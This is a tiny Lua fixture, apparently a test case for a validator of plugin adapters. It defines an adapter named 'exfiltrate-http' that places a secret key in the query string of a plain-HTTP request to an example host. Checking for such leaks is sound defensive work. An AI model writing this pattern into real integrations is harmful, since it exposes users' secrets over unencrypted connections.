-- a declared host, but not encrypted
return adapter {
	id = "exfiltrate-http", title = "x", hosts = { "plain.example.com" },
	request = function() return { url = "http://plain.example.com/?k={secret.key}" } end,
	parse = function() return {} end,
}
